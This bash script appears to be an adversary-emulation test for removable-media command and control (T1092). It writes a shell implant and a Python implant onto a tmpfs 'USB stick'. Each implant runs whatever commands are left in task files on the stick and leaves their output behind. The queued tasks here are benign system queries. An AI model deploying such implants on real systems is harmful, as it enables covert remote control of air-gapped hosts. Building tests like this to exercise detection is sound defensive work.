#!/bin/bash
# Command and control through a USB stick, as between an air-gapped host and an infected one: an implant kept on the stick (a shell script run straight from its mount, then a Python agent run from it by python3) reads the task file the other side left on the stick, runs the commands and writes their output back onto the stick for the other side to collect. The stick is a tmpfs mounted on /media inside the procedure's private mount namespace; the tasks are harmless (id, uname, hostname, date).
# technique: T1092
# expect: removable-media-c2
set -eu
mount -t tmpfs -o size=8m tpy-usb /media
stick=/media/USBSTICK
mkdir -p "$stick/.sys/in" "$stick/.sys/out"

# the implant as a shell script on the stick, executed from its mount
cat > "$stick/.sys/agent" <<'AGENT'
#!/bin/sh
# read every task file, run its lines, leave the output beside it in out/, drop the task
dir=$(dirname "$0")
for task in "$dir"/in/task-*; do
    [ -f "$task" ] || continue
    name=$(basename "$task")
    while read -r cmd; do
        sh -c "$cmd"
    done < "$task" > "$dir/out/$name.result" 2>&1
    rm -f "$task"
done
AGENT
chmod +x "$stick/.sys/agent"

# the same implant as a Python agent: writes a temporary file and renames it into place
cat > "$stick/.sys/agent.py" <<'AGENT'
import os
import subprocess
import sys

base = os.path.dirname(os.path.abspath(sys.argv[0]))
inbox = os.path.join(base, "in")
for name in sorted(os.listdir(inbox)):
    task = os.path.join(inbox, name)
    with open(task) as f:
        commands = [line.strip() for line in f if line.strip()]
    output = "".join(subprocess.run(c, shell=True, capture_output=True, text=True).stdout for c in commands)
    part = os.path.join(base, "out", name + ".part")
    with open(part, "w") as f:
        f.write(output)
    os.replace(part, os.path.join(base, "out", name + ".result"))
    os.unlink(task)
AGENT

# the other side (the infected machine the stick travels to) left a task; the implant polls twice
printf 'id\nuname -a\nhostname\n' > "$stick/.sys/in/task-001"
"$stick/.sys/agent"
"$stick/.sys/agent"
test -s "$stick/.sys/out/task-001.result"

printf 'date\nid -u\n' > "$stick/.sys/in/task-002"
/usr/bin/python3 "$stick/.sys/agent.py"
test -s "$stick/.sys/out/task-002.result"
sync
umount /media
